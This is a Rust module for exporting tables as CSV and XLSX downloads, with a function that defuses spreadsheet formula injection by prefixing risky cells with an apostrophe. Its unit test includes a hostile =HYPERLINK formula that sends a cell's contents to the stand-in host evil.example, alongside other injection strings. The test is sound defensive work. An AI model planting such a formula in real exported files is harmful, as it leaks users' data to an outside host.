//! Exports: tables of cells written as CSV (semicolons, UTF-8 with BOM so Excel reads æøå) and
//! XLSX, and files sent to the browser to save. Shared by every area that offers a download.

mod download;

pub use download::attachment;

use crate::error::AppError;
use rust_xlsxwriter::{Format, Workbook};
use samveis_domain::reporting::format_hundredths;

/// A cell: numbers stay numbers so spreadsheets can sum them.
#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    Text(String),
    Number(i64),
    Decimal(i64),
}

pub struct Table {
    pub title: String,
    pub headers: Vec<String>,
    pub rows: Vec<Vec<Cell>>,
}

fn text(cell: &Cell) -> String {
    match cell {
        Cell::Text(t) => neutralised(t),
        Cell::Number(n) => n.to_string(),
        Cell::Decimal(n) => format_hundredths(*n).replace('−', "-"),
    }
}

/// Text that a spreadsheet would run as a formula (`=`, `+`, `-`, `@`, tab or carriage return
/// first, OWASP's list) gets a leading apostrophe, so `=HYPERLINK(…)` typed into an answer is
/// shown as text, never run. Numbers are [`Cell::Number`]/[`Cell::Decimal`] and stay numbers.
pub fn neutralised(text: &str) -> String {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{text}") } else { text.to_string() }
}

/// Semicolon-separated, UTF-8 with BOM: Excel in Norway opens it with æøå and decimal commas.
pub fn to_csv(table: &Table) -> Result<Vec<u8>, AppError> {
    let mut out = "\u{feff}".as_bytes().to_vec();
    {
        let mut w = csv::WriterBuilder::new().delimiter(b';').from_writer(&mut out);
        w.write_record(table.headers.iter().map(|h| neutralised(h))).map_err(|e| AppError::Internal(e.to_string()))?;
        for row in &table.rows {
            w.write_record(row.iter().map(text)).map_err(|e| AppError::Internal(e.to_string()))?;
        }
        w.flush().map_err(|e| AppError::Internal(e.to_string()))?;
    }
    Ok(out)
}

pub fn to_xlsx(table: &Table) -> Result<Vec<u8>, AppError> {
    let err = |e: rust_xlsxwriter::XlsxError| AppError::Internal(e.to_string());
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    // Sheet names are at most 31 characters and may not hold some symbols.
    let name: String = table.title.chars().filter(|c| !"[]:*?/\\".contains(*c)).take(31).collect();
    sheet.set_name(if name.is_empty() { "Svar" } else { &name }).map_err(err)?;
    let bold = Format::new().set_bold();
    for (c, h) in table.headers.iter().enumerate() {
        sheet.write_string_with_format(0, c as u16, h, &bold).map_err(err)?;
    }
    for (r, row) in table.rows.iter().enumerate() {
        let r = (r + 1) as u32;
        for (c, cell) in row.iter().enumerate() {
            let c = c as u16;
            match cell {
                Cell::Text(t) if t.is_empty() => {}
                Cell::Text(t) => {
                    sheet.write_string(r, c, t).map_err(err)?;
                }
                Cell::Number(n) => {
                    sheet.write_number(r, c, *n as f64).map_err(err)?;
                }
                Cell::Decimal(n) => {
                    sheet.write_number(r, c, *n as f64 / 100.0).map_err(err)?;
                }
            }
        }
    }
    sheet.set_freeze_panes(1, 2).map_err(err)?;
    sheet.autofit();
    book.save_to_buffer().map_err(err)
}

/// A table as a download, by the file name asked for: `{stem}.xlsx` or `{stem}.csv` (anything
/// else is not found). `save_as` names the file the browser saves, without extension.
pub fn download(table: &Table, file: &str, stem: &str, save_as: &str) -> Result<axum::response::Response, AppError> {
    let (bytes, kind, ext) = if file == format!("{stem}.xlsx") {
        (to_xlsx(table)?, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "xlsx")
    } else if file == format!("{stem}.csv") {
        (to_csv(table)?, "text/csv; charset=utf-8", "csv")
    } else {
        return Err(AppError::NotFound("Fant ikke filen.".into()));
    };
    Ok(attachment(kind, &format!("{save_as}.{ext}"), bytes))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_text_that_would_run_as_a_formula_is_shown_as_text_and_numbers_stay_numbers() {
        let table = Table {
            title: "Svar".into(),
            headers: ["Kommune", "=Sum", "c", "d", "e", "f", "g", "h"].map(String::from).to_vec(),
            rows: vec![vec![
                Cell::Text(r#"=HYPERLINK("http://evil.example/?d="&A2,"x")"#.into()),
                Cell::Text("+1+1".into()),
                Cell::Text("@SUM(1+1)".into()),
                Cell::Text("-2+3".into()),
                Cell::Text("\tx".into()),
                Cell::Text("Bodø".into()),
                Cell::Number(-1200),
                Cell::Decimal(-150),
            ]],
        };
        let csv = String::from_utf8(to_csv(&table).unwrap()).unwrap();
        let lines: Vec<&str> = csv.trim_start_matches('\u{feff}').lines().collect();
        assert_eq!(lines[0], "Kommune;'=Sum;c;d;e;f;g;h");
        assert_eq!(
            lines[1],
            "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A2,\"\"x\"\")\";'+1+1;'@SUM(1+1);'-2+3;'\tx;Bodø;-1200;-1,5"
        );
    }
}
